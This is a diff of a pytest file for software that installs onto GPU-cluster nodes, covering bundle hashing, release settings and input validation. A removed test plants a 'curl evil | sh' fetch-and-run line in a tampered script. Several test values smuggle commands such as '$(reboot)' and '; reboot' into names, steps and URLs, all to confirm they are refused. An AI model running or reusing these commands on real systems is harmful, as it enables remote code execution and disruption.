@@ -1,8 +1,6 @@
-"""The node software: its version hash, and the script that applies it on a node, run in real bash.
+"""The node software: its content hash, its bundle (the same bytes anywhere), each node's settings, steps and files.
 
-apply_software() runs here against a scratch root with stand-ins for systemd-run, systemctl
-and cloud-init that behave like the real tools, exit codes included: a fresh node, a second
-run, a tampered copy, a failed bootstrap retried, a bootstrap that outlives its wait.
+The scripts that install it on a node run in real bash in tests/test_node_commands.py.
 """
 from __future__ import annotations
 
@@ -17,8 +15,7 @@ from pathlib import Path
 import pytest
 
 import node_software
-from node_software import SOURCE_DIR, apply_software, authorize_keys, software_hash
-from tests.tools import require_tool
+from node_software import SOURCE_DIR, NodeRelease, software_hash
 
 SOFTWARE = software_hash()
 ENV = node_software.node_env(gpu=True, gpu_kind="NVIDIA-GPU", instance_type="g5.xlarge", image="ubuntu")
@@ -90,10 +87,10 @@ def test_bad_node_settings_are_refused(field, value, message):
 
 
 def test_node_env_values_that_a_shell_would_misread_are_refused():
-    with pytest.raises(ValueError, match="cannot be written to node.env safely"):
-        apply_software(software=SOFTWARE, steps=["install-docker"], env={"GPU_SWARM_X": "a b"}, expected_gpus=0)
-    with pytest.raises(ValueError, match="not a step name"):
-        apply_software(software=SOFTWARE, steps=["install-docker; reboot"], env=ENV, expected_gpus=0)
+    for value in ("a  b", " a", "$(reboot)", "a'b", 'a"b', "a\\b", "a\nb"):
+        with pytest.raises(ValueError, match="cannot be written to an env file safely"):
+            node_software.env_text({"GPU_SWARM_X": value})
+    assert node_software.env_text({"GPU_SWARM_STEPS": "a b"}) == 'GPU_SWARM_STEPS="a b"\n'
 
 
 def test_min_versions_reads_versions_env():
@@ -126,6 +123,11 @@ def test_version_numbers_live_only_in_versions_env():
 def test_node_paths_match_the_shell_defaults():
     common = (SOURCE_DIR / "common.sh").read_text()
     defaults = dict(re.findall(r'"\$\{(\w+):=([^}]*)\}"', common))
+    installer = dict(re.findall(r'"\$\{(\w+):=([^}]*)\}"', (node_software.CLOUD_INIT_DIR / "install.sh").read_text()))
+    for name in set(defaults) & set(installer):
+        assert installer[name] == defaults[name], name
+    assert installer["GPU_SWARM_RELEASE_ENV"] == node_software.RELEASE_ENV_PATH
+    assert installer["GPU_SWARM_SOFTWARE"] == node_software.SOFTWARE_DIR
     assert defaults["GPU_SWARM_LOG"] == node_software.BOOTSTRAP_LOG
     assert defaults["GPU_SWARM_STATE"] == node_software.STATE_DIR
     assert defaults["GPU_SWARM_VERSIONS"] == node_software.NODE_VERSIONS_ENV
@@ -141,289 +143,80 @@ def test_units_run_the_installed_software():
     assert f"EnvironmentFile=-{node_software.NODE_ENV_PATH}" in unit
 
 
-# ---------------------------------------------------------------- apply_software, in real bash
+
+# ---------------------------------------------------------------- the bundle
 
 
-class Node:
-    """A scratch root for apply_software, with stand-ins for the tools it calls."""
-
-    def __init__(self, tmp: Path):
-        self.root = tmp / "root"
-        self.bin = tmp / "bin"
-        self.calls = tmp / "calls"
-        self.bin.mkdir()
-        self.path = lambda p: Path(str(self.root) + p)
-        self.stage()
-        self.daemon(gpus=1)
-        # The bootstrap itself is the bootstrap's own tests' business: here it writes what
-        # the real one writes when it ends (markers, timings) as told by FAKE_BOOTSTRAP.
-        self.fake("systemd-run", f"""
-state={self.path(node_software.STATE_DIR)}
-echo "$*" >>{tmp}/bootstraps
-rm -f "$state/bootstrap-done" "$state/bootstrap-failed"
-case "${{FAKE_BOOTSTRAP:-ok}}" in
-  ok) echo '{{"install-docker": {{"seconds": 1.000, "status": "done"}}}}' >"$state/bootstrap-timings.json"
-      echo done >"$state/bootstrap-done" ;;
-  fail) echo install-docker >"$state/bootstrap-failed"; echo "E: apt broke" >>{self.path(node_software.BOOTSTRAP_LOG)} ;;
-  hang) touch {tmp}/unit-active ;;  # a unit that keeps running
-esac""")
-        self.fake("systemctl", f'case "$1" in is-active) [ -e {tmp}/unit-active ] ;; *) exit 0 ;; esac')
-        self.fake("cloud-init", 'exit "${FAKE_CLOUD_INIT_RC:-0}"')
-        self.fake("chown", "exit 0")  # the scratch root is not ours to give to root
-
-    def fake(self, name: str, body: str) -> None:
-        path = self.bin / name
-        path.write_text(f'#!/usr/bin/env bash\necho "{name} $*" >>{self.calls}\n{body}\n')
-        path.chmod(0o755)
-
-    def stage(self, software: str = SOFTWARE) -> Path:
-        staged = self.path(f"{node_software.staging_dir(software)}/node")
-        shutil.copytree(SOURCE_DIR, staged, dirs_exist_ok=True)
-        return staged
-
-    def daemon(self, gpus: int) -> None:
-        path = self.path("/etc/docker/daemon.json")
-        path.parent.mkdir(parents=True, exist_ok=True)
-        uuids = [f"NVIDIA-GPU=GPU-{i:08d}-0000-0000-0000-000000000000" for i in range(gpus)]
-        path.write_text(json.dumps({"node-generic-resources": uuids}))
-        self.fake("docker", "exit 0")
-
-    def apply(self, env: dict | None = None, expected_gpus: int = 1, **fakes: str) -> subprocess.CompletedProcess:
-        text = apply_software(software=SOFTWARE, steps=["install-docker", "apply-docker-config"], env=env or ENV,
-                              expected_gpus=expected_gpus, root=str(self.root), bootstrap_timeout_s=2)
-        return subprocess.run(["bash", "-c", text], capture_output=True, text=True, timeout=60,
-                              env={**os.environ, "PATH": f"{self.bin}:{os.environ['PATH']}", **fakes})
-
-    def bootstraps(self) -> int:
-        path = self.root.parent / "bootstraps"
-        return len(path.read_text().splitlines()) if path.exists() else 0
+def test_the_bundle_is_node_as_a_tar_with_fixed_owner_modes_and_times():
+    import tarfile, io
+    with tarfile.open(fileobj=io.BytesIO(node_software.bundle())) as tar:
+        members = tar.getmembers()
+    assert sorted(m.name for m in members) == sorted(rel for rel, _ in node_software.software_files())
+    for m in members:
+        assert (m.uid, m.gid, m.uname, m.gname, m.mtime) == (0, 0, "", "", 0), m.name
+        executable = m.name.endswith((".sh", ".py")) or m.name == "gpu-swarm-runtime"
+        assert m.mode == (0o755 if executable else 0o644), m.name
 
 
-@pytest.fixture
-def node(tmp_path) -> Node:
-    return Node(tmp_path)
+def test_the_bundle_is_the_same_bytes_in_another_process_and_follows_content_only(tmp_path):
+    code = "import node_software; print(node_software.bundle_sha256())"
+    seen = {subprocess.run([os.sys.executable, "-c", code], cwd=SOURCE_DIR.parent, capture_output=True, text=True,
+                           check=True, env={**os.environ, "PYTHONHASHSEED": seed}).stdout.strip() for seed in ("1", "2")}
+    assert seen == {node_software.bundle_sha256()}
+    copy = tmp_path / "node"
+    shutil.copytree(SOURCE_DIR, copy, ignore=shutil.ignore_patterns("__pycache__"))
+    (copy / "bootstrap.sh").chmod(0o600)
+    os.utime(copy / "common.sh", (0, 0))
+    assert node_software.bundle_sha256(copy) == node_software.bundle_sha256()
+    (copy / "common.sh").write_text((copy / "common.sh").read_text() + "\n")
+    assert node_software.bundle_sha256(copy) != node_software.bundle_sha256()
 
 
-def test_a_fresh_node_installs_the_copy_and_bootstraps(node):
-    result = node.apply()
-    assert result.returncode == 0, result.stderr
-    assert json.loads(result.stdout) == {"install-docker": {"seconds": 1.0, "status": "done"}}
-    installed = node.path(node_software.SOFTWARE_DIR)
-    assert software_hash(installed) == SOFTWARE and (installed / ".hash").read_text().strip() == SOFTWARE
-    env = node.path(node_software.NODE_ENV_PATH).read_text()
-    assert env == "".join(f"{k}={v}\n" for k, v in ENV.items())
-    assert node.bootstraps() == 1
-    assert f"bash {installed}/bootstrap.sh install-docker apply-docker-config" in node.calls.read_text()
+def test_the_bundle_unpacks_with_gnu_tar_as_the_node_unpacks_it(tmp_path):
+    (tmp_path / "b.tar").write_bytes(node_software.bundle())
+    (tmp_path / "out").mkdir()
+    subprocess.run(["tar", "-C", str(tmp_path / "out"), "--no-same-owner", "-xf", str(tmp_path / "b.tar")], check=True)
+    assert software_hash(tmp_path / "out") == SOFTWARE
+    assert os.access(tmp_path / "out" / "bootstrap.sh", os.X_OK)
 
 
-def test_a_second_run_changes_nothing(node):
-    assert node.apply().returncode == 0
-    result = node.apply()
-    assert result.returncode == 0, result.stderr
-    assert "already applied" in result.stderr and node.bootstraps() == 1
-    assert json.loads(result.stdout)["install-docker"]["status"] == "done"
+# ---------------------------------------------------------------- a release and its files
+
+URL = "https://b-1.s3.us-east-1.amazonaws.com/node-software/x.tar"
+STEPS = ("install-docker", "apply-docker-config")
 
 
-def test_new_settings_run_the_bootstrap_again_with_the_same_software(node):
-    assert node.apply().returncode == 0
-    assert node.apply(env={**ENV, "GPU_SWARM_KIND": "GPU"}, expected_gpus=0).returncode == 0
-    assert node.bootstraps() == 2
-    assert "GPU_SWARM_KIND=GPU" in node.path(node_software.NODE_ENV_PATH).read_text()
+def test_a_release_changes_with_the_bundle_settings_and_steps_but_not_the_url():
+    sha = node_software.bundle_sha256()
+    base = NodeRelease(URL, sha, ENV, STEPS)
+    assert NodeRelease(URL.replace("b-1", "b-2"), sha, ENV, STEPS).id == base.id
+    assert NodeRelease(URL, sha, {**ENV, "GPU_SWARM_IMAGE": "custom"}, STEPS).id != base.id
+    assert NodeRelease(URL, sha, ENV, STEPS[:1]).id != base.id
+    assert NodeRelease(URL, "0" * 64, ENV, STEPS).id != base.id
 
 
-def test_a_tampered_copy_is_refused_before_root_runs_it(node):
-    staged = node.stage()
-    (staged / "bootstrap.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
-    result = node.apply()
-    assert result.returncode == 1
-    assert "has hash" in result.stderr and f"expected {SOFTWARE}" in result.stderr
-    assert not node.path(node_software.SOFTWARE_DIR).exists() and node.bootstraps() == 0
+def test_a_release_writes_the_settings_the_installer_and_what_to_install():
+    release = NodeRelease(URL, node_software.bundle_sha256(), ENV, STEPS)
+    files = {f.path: f for f in release.files()}
+    assert files[node_software.NODE_ENV_PATH].content == node_software.env_text(ENV)
+    assert files[node_software.INSTALLER_PATH].mode == "0755"
+    assert files[node_software.INSTALLER_PATH].content == (node_software.CLOUD_INIT_DIR / "install.sh").read_text()
+    env = subprocess.run(["bash", "-c", 'set -a; . /dev/stdin; env'], input=files[node_software.RELEASE_ENV_PATH].content,
+                         capture_output=True, text=True, check=True).stdout
+    assert f"GPU_SWARM_BUNDLE_URL={URL}\n" in env and "GPU_SWARM_STEPS=install-docker apply-docker-config\n" in env
+    assert f"GPU_SWARM_RELEASE={release.id}\n" in env
+    assert f"GPU_SWARM_BUNDLE_SHA256={node_software.bundle_sha256()}\n" in env
 
 
-def test_a_missing_copy_says_what_to_do(node):
-    shutil.rmtree(node.path(node_software.staging_dir(SOFTWARE)))
-    result = node.apply()
-    assert result.returncode == 1 and "copy of the node software is missing" in result.stderr
-    assert "run pulumi up again" in result.stderr
-
-
-def test_a_failed_bootstrap_fails_with_its_log_and_the_next_run_retries(node):
-    result = node.apply(FAKE_BOOTSTRAP="fail")
-    assert result.returncode == 1
-    assert "bootstrap step install-docker failed" in result.stderr and "E: apt broke" in result.stderr
-    assert not node.path(node_software.APPLIED).exists()
-    result = node.apply()
-    assert result.returncode == 0, result.stderr
-    assert node.bootstraps() == 2
-
-
-@pytest.mark.parametrize("rc, warning", [("2", None), ("1", "cloud-init reported errors (exit 1"),
-                                         ("124", "cloud-init is still running")])
-def test_cloud_init_warnings_and_errors_do_not_fail_a_good_bootstrap(node, rc, warning):
-    """cloud-init >= 23.4 exits 2 on recoverable warnings; only the bootstrap's own markers decide."""
-    result = node.apply(FAKE_CLOUD_INIT_RC=rc)
-    assert result.returncode == 0, result.stderr
-    if warning:
-        assert warning in result.stderr
-    else:
-        assert "cloud-init" not in result.stderr
-
-
-def test_a_bootstrap_that_outlives_the_wait_fails_clearly_and_keeps_running(node):
-    result = node.apply(FAKE_BOOTSTRAP="hang")
-    assert result.returncode == 1
-    assert "still running after" in result.stderr and "run pulumi up again to wait for it" in result.stderr
-
-
-def test_a_running_bootstrap_is_waited_for_not_started_twice(node):
-    node.apply(FAKE_BOOTSTRAP="hang")
-    assert node.bootstraps() == 1
-    result = node.apply(FAKE_BOOTSTRAP="hang")
-    assert "already running; waiting for it" in result.stderr and result.returncode == 1
-    assert node.bootstraps() == 1
-
-
-def test_a_node_advertising_the_wrong_gpu_count_fails(node):
-    node.daemon(gpus=0)
-    result = node.apply(expected_gpus=1)
-    assert result.returncode == 1
-    assert "node advertises 0 NVIDIA-GPU resources" in result.stderr and "expected 1" in result.stderr
-
-
-def test_a_sharing_node_is_counted_in_slots_of_the_shared_kind(node):
-    """A pool with slotsPerGpu: 4 advertises 4 slots per GPU under the shared kind, no whole GPU."""
-    shared = node_software.node_env(gpu=True, gpu_kind="NVIDIA-GPU", instance_type="g6e.12xlarge", image="ubuntu",
-                                    slots_per_gpu=4, shared_kind="NVIDIA-GPU-SHARED")
-    path = node.path("/etc/docker/daemon.json")
-    uuid = "GPU-00000000-0000-0000-0000-000000000000"
-    path.write_text(json.dumps({"node-generic-resources": [f"NVIDIA-GPU-SHARED={uuid}-s{k}" for k in range(4)]}))
-    ok = node.apply(env=shared, expected_gpus=1)
-    assert ok.returncode == 0, ok.stderr
-    path.write_text(json.dumps({"node-generic-resources": [f"NVIDIA-GPU={uuid}"]}))  # whole: not what it should be
-    wrong = node.apply(env=shared, expected_gpus=1)
-    assert wrong.returncode == 1 and "node advertises 0 NVIDIA-GPU-SHARED resources" in wrong.stderr
-    assert "expected 4" in wrong.stderr
-
-
-def test_apply_passes_shellcheck():
-    require_tool("shellcheck")
-    text = apply_software(software=SOFTWARE, steps=["install-docker"], env=ENV, expected_gpus=1)
-    proc = subprocess.run(["shellcheck", "-s", "bash", "-"], input=text, capture_output=True, text=True)
-    assert proc.returncode == 0, proc.stdout
-
-
-# ---------------------------------------------------------------- health settings, apart from node.env
-
-
-def _health(node: Node, env: dict) -> subprocess.CompletedProcess:
-    return subprocess.run(["bash", "-c", node_software.health_settings(env, root=str(node.root))], capture_output=True,
-                          text=True, timeout=60, env={**os.environ, "PATH": f"{node.bin}:{os.environ['PATH']}"})
-
-
-def test_health_settings_restart_the_health_services_only_when_they_change(node):
-    from settings import Health
-    first = _health(node, Health().node_env())
-    assert first.returncode == 0 and first.stdout.strip() == "changed", first.stderr
-    written = node.path(node_software.HEALTH_ENV_PATH).read_text()
-    assert "HEALTH_INTERVAL_SECONDS=10\n" in written and "HEALTH_IGNORE_XIDS=\n" in written
-    assert "systemctl try-restart gpu-swarm-health.service" in node.calls.read_text()
-    # Only the units this node has: here the watcher (a GPU node).
-    node.fake("systemctl", '[ "$1 $2" != "cat gpu-swarm-reconciler.service" ]')
-    node.calls.unlink()
-    assert _health(node, Health(ignore_xids=(94, 95)).node_env()).stdout.strip() == "changed"
-    assert "HEALTH_IGNORE_XIDS=94,95\n" in node.path(node_software.HEALTH_ENV_PATH).read_text()
-    assert node.calls.read_text().splitlines() == [
-        "systemctl cat gpu-swarm-health.service", "systemctl try-restart gpu-swarm-health.service",
-        "systemctl cat gpu-swarm-reconciler.service"]
-    again = _health(node, Health(ignore_xids=(94, 95)).node_env())
-    assert again.stdout.strip() == "unchanged" and len(node.calls.read_text().splitlines()) == 3
-    assert [p.name for p in node.path(node_software.HEALTH_ENV_PATH).parent.iterdir()] == ["health.env"]
-
-
-def test_health_settings_are_what_the_watcher_and_the_reconciler_read():
-    """The values the program writes parse, as environment defaults, in both node programs."""
-    import importlib.util
-    import sys
-    from settings import Health
-    env = Health(ignore_xids=(94, 95), critical_xids=(43,), check_interval_s=5, recovery_s=60,
-                 max_drained_percent=25).node_env()
-    sys.path.insert(0, str(SOURCE_DIR))
-    try:
-        programs = {}
-        for name in ("gpu_health", "swarm_reconciler"):
-            spec = importlib.util.spec_from_file_location(f"{name}_env_check", SOURCE_DIR / f"{name}.py")
-            programs[name] = importlib.util.module_from_spec(spec)
-            sys.modules[spec.name] = programs[name]
-            spec.loader.exec_module(programs[name])
-    finally:
-        sys.path.remove(str(SOURCE_DIR))
-    watcher = programs["gpu_health"].parse_args([], env=env)
-    assert (watcher.ignore_xids, watcher.critical_xids, watcher.interval, watcher.recovery_seconds) == (
-        frozenset({94, 95}), frozenset({43}), 5, 60)
-    assert programs["swarm_reconciler"].parse_args([], env=env).max_drained_percent == 25
-
-
-def test_health_units_read_health_env():
-    for unit in node_software.HEALTH_UNITS:
-        assert f"EnvironmentFile=-{node_software.HEALTH_ENV_PATH}" in (SOURCE_DIR / unit).read_text()
-
-
-def test_health_settings_pass_shellcheck():
-    require_tool("shellcheck")
-    from settings import Health
-    proc = subprocess.run(["shellcheck", "-s", "bash", "-"], input=node_software.health_settings(Health().node_env()),
-                          capture_output=True, text=True)
-    assert proc.returncode == 0, proc.stdout
-
-
-# ---------------------------------------------------------------- who may log in
-
-
-KEY_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAA pulumi"
-KEY_B = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBBBB next@laptop"
-
-
-def test_authorized_keys_become_exactly_the_given_keys(tmp_path):
-    home = tmp_path / "home"
-    (home / ".ssh").mkdir(parents=True)
-    (home / ".ssh" / "authorized_keys").write_text("ssh-rsa AAAAold stale@key\n")
-    fakes = tmp_path / "bin"
-    fakes.mkdir()
-    for name, body in (("getent", f'echo "ubuntu:x:1000:1000::{home}:/bin/bash"'), ("id", "echo ubuntu"),
-                       ("install", "exit 0"), ("chown", "exit 0")):
-        (fakes / name).write_text(f"#!/bin/sh\n{body}\n")
-        (fakes / name).chmod(0o755)
-    env = {**os.environ, "PATH": f"{fakes}:{os.environ['PATH']}"}
-    result = subprocess.run(["bash", "-c", authorize_keys("ubuntu", [KEY_A, KEY_B, KEY_A])], env=env,
-                            capture_output=True, text=True)
-    assert result.returncode == 0, result.stderr
-    keys = home / ".ssh" / "authorized_keys"
-    assert keys.read_text() == f"{KEY_A}\n{KEY_B}\n"
-    assert oct(keys.stat().st_mode & 0o777) == "0o600"
-    assert "2 key(s) may log in as ubuntu" in result.stdout
-
-
-@pytest.mark.parametrize("user, keys, message", [
-    ("root; reboot", [KEY_A], "not a Linux user name"),
-    ("ubuntu", [], "at least one public key"),
-    ("ubuntu", ["ssh-ed25519 AAAA\nssh-rsa BBBB"], "not one OpenSSH public key line"),
-    ("ubuntu", ["-----BEGIN OPENSSH PRIVATE KEY-----"], "not one OpenSSH public key line"),
+@pytest.mark.parametrize("url, steps, message", [
+    ("http://b.s3.amazonaws.com/x.tar", STEPS, "plain https URL"),
+    ("https://b.s3.amazonaws.com/x.tar; reboot", STEPS, "plain https URL"),
+    (URL, ("install-docker; reboot",), "not a script in node/"),
+    (URL, ("install-nothing",), "not a script in node/"),
 ])
-def test_bad_keys_are_refused(user, keys, message):
+def test_a_release_refuses_what_a_node_could_not_install(url, steps, message):
     with pytest.raises(ValueError, match=message):
-        authorize_keys(user, keys)
-
-
-def test_the_applied_record_changes_with_software_settings_and_steps():
-    def applied(**kw):
-        text = apply_software(**{"software": SOFTWARE, "steps": ["install-docker"], "env": ENV,
-                                 "expected_gpus": 1, **kw})
-        return re.search(r'= ([0-9a-f]{64}) \] && \[ -e', text)[1]
-    base = applied()
-    assert applied() == base
-    assert applied(env={**ENV, "GPU_SWARM_IMAGE": "custom"}) != base
-    assert applied(steps=["install-docker", "apply-docker-config"]) != base
-    assert applied(software=hashlib.sha256(b"other").hexdigest()) != base
+        NodeRelease(url, node_software.bundle_sha256(), ENV, steps).files()
 
 
 def test_git_checks_the_node_software_out_with_lf_everywhere():
